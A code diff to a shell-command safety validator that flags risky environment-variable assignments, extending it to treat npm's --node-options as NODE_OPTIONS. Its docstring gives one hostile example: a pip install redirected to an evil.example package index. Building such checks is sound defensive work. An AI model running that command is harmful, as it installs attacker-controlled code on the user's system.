@@ -23,6 +23,7 @@ from clawgate.lazyre import lazy_pattern
 from clawgate.shell.model import SimpleCommand, Word
 from clawgate.validators import shapes as sh
 from clawgate.validators.base import Context, Validator, register
+from clawgate.validators.envsettings import NPM_LIKE, npm_variables
 from clawgate.validators.envvars import assignments, inside_workspace
 from clawgate.validators.indexhosts import index_kind
 from clawgate.validators.runfiles import invoked
@@ -70,6 +71,8 @@ class PayloadVariable(Validator):
     index option (the supply-chain rules), ASK for checks turned off and loads from outside
     the workspace, the command a JVM option runs checked as a command.
 
+    npm's ``--node-options`` is ``NODE_OPTIONS`` for the scripts it runs, and judged so.
+
     Bad: ``PIP_INDEX_URL=https://evil.example/simple pip install requests``. Harmless:
     ``MAVEN_OPTS=-Xmx2g mvn package``.
     """
@@ -77,13 +80,16 @@ class PayloadVariable(Validator):
     id = "CG-ENV-005"
 
     def shapes(self, program: str | None) -> int:
-        return sh.ANY if program in _DECLARERS else sh.ASSIGN
+        return sh.ANY if program in _DECLARERS or program in NPM_LIKE else sh.ASSIGN
 
     def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
-        if not cmd.assignments and cmd.program not in _DECLARERS:
+        if not cmd.assignments and cmd.program not in _DECLARERS | NPM_LIKE:
             return Verdict.passthrough()
         own = invoked(cmd)
-        verdicts = [self._judge(name, value, ctx, own) for name, value in assignments(cmd)]
+        # npm's options that are these variables for every script it runs (--node-options)
+        # are judged as the variables they are
+        pairs = [*assignments(cmd), *npm_variables(cmd)]
+        verdicts = [self._judge(name, value, ctx, own) for name, value in pairs]
         found = [v for v in verdicts if v.outcome is not Outcome.PASSTHROUGH or v.nested]
         if not found:
             return Verdict.passthrough()
